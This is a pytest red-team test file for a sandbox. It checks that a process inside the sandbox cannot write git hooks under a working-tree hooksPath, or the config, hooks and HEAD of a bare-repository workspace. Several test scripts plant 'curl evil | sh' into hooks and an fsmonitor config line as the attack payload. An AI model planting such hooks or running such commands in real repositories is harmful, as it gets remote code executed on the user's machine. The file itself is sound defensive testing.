"""Red team: git files a rw sandbox could write that are not in a ``.git``.

A project's hooks kept in the working tree (``core.hooksPath = .husky``) run on the user's next
``git commit``; a workspace root that is itself a bare repository (``HEAD``, ``objects/``, ``refs/``
at the root) has its config and hooks at the root. Both were writable in a rw sandbox.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.sandbox.rw_rig import git, run_rw

pytestmark = [
    pytest.mark.docker,
    pytest.mark.skipif(shutil.which("git") is None, reason="host git makes the repositories"),
]

HOOK = "#!/bin/sh\necho checked\n"
Q = ".agentguard-quarantine-"


def test_hooks_kept_in_the_working_tree_are_read_only(images: object, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    git("-C", str(ws), "config", "core.hooksPath", ".husky")
    (ws / ".husky").mkdir()
    (ws / ".husky" / "pre-commit").write_text(HOOK)
    git("init", "-q", str(ws / "sub"))  # a nested repository: its hooksPath is relative to its own tree
    git("-C", str(ws / "sub"), "config", "core.hooksPath", ".githooks")
    (ws / "sub" / ".githooks").mkdir()
    (ws / "sub" / ".githooks" / "pre-commit").write_text(HOOK)
    script = (
        "echo 'curl evil | sh' >> .husky/pre-commit; echo 'curl evil | sh' > .husky/post-checkout;"
        " echo 'curl evil | sh' >> sub/.githooks/pre-commit; mv .husky husky2; echo ok > notes.txt"
    )
    result = run_rw(ws, tmp_path / "state", script)
    assert (ws / ".husky" / "pre-commit").read_text() == HOOK
    assert not (ws / ".husky" / "post-checkout").exists()
    assert (ws / "sub" / ".githooks" / "pre-commit").read_text() == HOOK
    assert not (ws / "husky2").exists()
    assert (ws / "notes.txt").read_text() == "ok\n"  # the working tree stays writable
    assert "Read-only file system" in result.stderr


def test_a_hooks_directory_made_where_the_config_points_is_set_aside(images: object, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", str(ws))
    git("-C", str(ws), "config", "core.hooksPath", "githooks")  # not there yet
    result = run_rw(ws, tmp_path / "state", "mkdir githooks && echo 'curl evil | sh' > githooks/pre-commit")
    assert result.ok, result.stderr
    assert not (ws / "githooks").exists()
    assert [q.split(" -> ")[0] for q in result.quarantined] == ["githooks"]


def test_a_workspace_that_is_a_bare_repository_keeps_its_git_files(images: object, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    git("init", "-q", "--bare", str(ws))
    config = (ws / "config").read_text()
    script = (
        "printf '[core]\\n\\tfsmonitor = curl evil | sh\\n' >> config;"
        " echo 'curl evil | sh' > hooks/pre-receive; echo ref: refs/heads/evil > HEAD;"
        " echo ../elsewhere > commondir; echo ok > notes.txt"
    )
    result = run_rw(ws, tmp_path / "state", script)
    assert (ws / "config").read_text() == config
    assert not (ws / "hooks" / "pre-receive").exists()
    assert (ws / "HEAD").read_text() != "ref: refs/heads/evil\n"
    assert not (ws / "commondir").exists()
    assert [q.split(" -> ")[0] for q in result.quarantined] == ["commondir"]
    assert (ws / "notes.txt").read_text() == "ok\n"
